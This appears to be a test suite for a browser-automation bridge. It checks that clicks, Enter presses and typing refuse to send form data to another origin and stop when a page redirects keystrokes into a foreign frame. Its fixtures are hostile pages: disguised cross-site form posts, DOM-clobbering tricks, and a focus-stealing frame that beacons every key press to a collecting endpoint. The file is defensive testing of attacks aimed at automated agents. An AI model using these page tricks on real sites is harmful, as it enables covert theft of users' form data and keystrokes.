// One press, one key, one field at a time: what an action refuses to give to another site, however a page disguises it.
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { execute } from '../../bridge/act/index.ts'
import { navigate, type Session } from '../../bridge/browser/session.ts'
import { settle } from '../../bridge/observe/index.ts'
import type { Operation } from '../../shared/domain/operation.ts'
import { type Pages, servePages } from '../support/pages.ts'
import { openSharedBrowser } from '../support/shared-browser.ts'

const FIELDS = '<p><label>Full name <input name=name value="Ada King"></label>'
const form = (attributes: string, inside = `${FIELDS}<button id=go>Send</button>`): string =>
  `<h1>Join</h1><form ${attributes}>${inside}</form>`
const away = 'method=post action="OTHER/loot"'
const inShadow = (inside: string): string =>
  `<div id=host></div><script>document.querySelector('#host').attachShadow({ mode: 'open' }).innerHTML = \`${inside}\`</script>`

const at = (css: string) => ({ descriptor: { css, frame: [] } })
const click: Operation = { op: 'click', target: at('#go') }
const enter: Operation = { op: 'press', key: 'Enter', target: at('[name=name]') }
const enterAnywhere: Operation = { op: 'press', key: 'Enter' }
const typed: Operation = { op: 'type', target: at('[name=name]'), text: 'Ada King', submit: true }

/** By what leads to another site, and the operation that would send there. */
const AWAY: Record<string, [page: string, operation: Operation]> = {
  'an action': [form(away), click],
  'an action without a post': [form('action="OTHER/loot"'), click],
  'an action, by Enter in its field': [form(away), enter],
  'an action, by typing and Enter': [form(away), typed],
  'an action, by Enter wherever the keys are': [
    `${form(away)}<script>addEventListener('load', () => document.querySelector('[name=name]').focus())</script>`,
    enterAnywhere,
  ],
  'an action, by a label of its button': [
    form(away, `${FIELDS}<label id=go for=b>Send it</label><button id=b style="position:absolute;left:0">x</button>`),
    click,
  ],
  'a button’s own address': [
    form('action="/own"', `${FIELDS}<button id=go formaction="OTHER/loot">Send</button>`),
    click,
  ],
  'a picture’s own address, by Enter': [
    form('action="/own"', `${FIELDS}<input type=image alt=Send formaction="OTHER/loot">`),
    enter,
  ],
  'a way of sending that is the button’s own': [
    form('method=dialog action="OTHER/loot"', `${FIELDS}<button id=go formmethod=post>Send</button>`),
    click,
  ],
  'a base': [`<base href="OTHER/">${form('action="loot"')}`, click],
  'a window to send into': [form(`${away} target=_blank`), click],
  'a button of another form': [
    `${form('id=evil method=post action="OTHER/loot"', FIELDS)}${form('action="/own"', '<p><label>City <input name=city></label><button id=go form=evil>Send</button>')}`,
    click,
  ],
  'fields of another form': [
    `<form id=evil ${away}></form>${form('action="/own"', `${FIELDS.replace('<input', '<input form=evil')}<button id=go form=evil>Send</button>`)}`,
    click,
  ],
  'a form in a shadow tree': [inShadow(form(away)), click],
  'a form in a shadow tree, by Enter': [inShadow(form(away)), enter],
  'a button whose words stand in a shadow tree': [
    `${form(away, `${FIELDS}<button><x-words></x-words></button>`)}<script>customElements.define('x-words', class extends HTMLElement { connectedCallback() { this.attachShadow({ mode: 'open' }).innerHTML = '<span id=go>Send</span>' } })</script>`,
    click,
  ],
  'a base that a picture has the name of': [
    form(away, `<img name=baseURI>${FIELDS}<button id=go>Send</button>`),
    click,
  ],
  'an address that a field has the name of': [
    form(
      away,
      `${FIELDS}<input type=hidden name=action value="/own"><input type=hidden name=elements><button id=go>Send</button>`,
    ),
    click,
  ],
  'a scheme that is none of the web': [form('action="mailto:loot@example.test"'), click],
}

const OWN: Record<string, [page: string, operation: Operation]> = {
  'an own address': [form('method=post action="/own"'), click],
  'no address at all, under a foreign base': [`<base href="OTHER/">${form('')}`, click],
  'a form that holds nothing': [form(away, '<button id=go>Send</button>'), click],
  'a dialog that is closed': [`<dialog open>${form('method=dialog action="OTHER/loot"')}</dialog>`, click],
  'a button that sends nothing': [form(away, `${FIELDS}<button type=button id=go>Show</button>`), click],
}

/** Takes keys only, no edits; any key press makes the following ones go elsewhere. */
const keysTo = (focus: string): string => `<script>
  addEventListener('input', (event) => { if (event.data?.length > 1) event.target.value = '' }, true)
  addEventListener('keydown', () => { ${focus} }, true)</script>`
const PLAIN = '<p><label>Full name <input name=name></label>'
const KEYS: Record<string, [page: string, frame: string[]]> = {
  'a frame': [`${PLAIN}<iframe id=x src="OTHER/grab"></iframe>${keysTo('x.focus()')}`, []],
  'a frame in a closed shadow tree': [
    `${PLAIN}<div id=host></div><script>const root = host.attachShadow({ mode: 'closed' }); root.innerHTML = '<iframe src="OTHER/grab"></iframe>'</script>${keysTo('root.firstChild.focus()')}`,
    [],
  ],
  'a frame, where a picture has the name of what has the keys': [
    `<img name=activeElement>${PLAIN}<iframe id=x src="OTHER/grab"></iframe>${keysTo('x.focus()')}`,
    [],
  ],
  'the frame beside its own': [
    '<iframe src="ORIGIN/inner"></iframe><iframe src="OTHER/grab"></iframe>',
    ['url=/inner'],
  ],
}

let pages: Pages
let session: Session
const heard: string[] = []
beforeAll(async () => {
  const all = [...Object.values(AWAY), ...Object.values(OWN), ...Object.values(KEYS)]
  pages = await servePages({
    ...Object.fromEntries(all.map(([page], number) => [`/p${number}`, `<title>Join</title>${page}`])),
    '/inner': `<title>Inner</title>${PLAIN}${keysTo('parent.frames[1].focus()')}`,
    '/own': '<title>Thank you</title>',
    '/loot': '<title>Thank you</title>',
    '/grab': `<title>Grab</title><input id=g><script>addEventListener('focus', () => g.focus()); addEventListener('keydown', ({ key }) => { new Image().src = '/heard?' + key })</script>`,
    '/heard': (query) => {
      heard.push(query.toString())
      return ''
    },
  })
  session = await openSharedBrowser({})
})
afterAll(async () => {
  await session?.close()
  await pages?.close()
})

const open = async (number: number): Promise<void> => {
  await navigate(session.active(), pages.url(`/p${number}`))
  await settle(session.active(), {})
}
const act = (operation: Operation) =>
  execute(session, operation, {
    signal: AbortSignal.timeout(30_000),
    mayHold: (origin) => origin === pages.origin,
    appearsWithinMs: 300,
  })
const numbered = <Case extends readonly unknown[]>(of: Record<string, Case>, from: number) =>
  Object.entries(of).map(([what, one], index) => [what, one, from + index] as const)

describe('a press that would send the content of a form to another site is not made', () => {
  test.each(numbered(AWAY, 0))('%s', async (_, [, operation], number) => {
    await open(number)
    expect(await act(operation)).toMatchObject({ status: 'failed', code: 'ORIGIN_REFUSED' })
    expect(pages.seen).not.toContain('/loot')
  })

  test.each(numbered(OWN, Object.keys(AWAY).length))(
    'and is made where it would not: %s',
    async (_, [, operation], number) => {
      await open(number)
      expect(await act(operation)).toMatchObject({ status: 'done' })
      // A press may open another page; wait for it before the next page is opened.
      await settle(session.active(), {})
    },
  )
})

test.each(numbered(KEYS, Object.keys(AWAY).length + Object.keys(OWN).length))(
  'no more keys are typed once a page leads them to %s',
  async (_, [, frame], number) => {
    await open(number)
    heard.length = 0
    const target = { descriptor: { css: '[name=name]', frame } }
    expect(await act({ op: 'type', target, text: 'Ada King' })).toMatchObject({
      status: 'failed',
      code: 'ACTION_STALE',
    })
    // A printable key arrives as `x=`, two characters: none reached the other frame.
    expect(heard.filter((key) => key.length === 2)).toEqual([])
  },
)
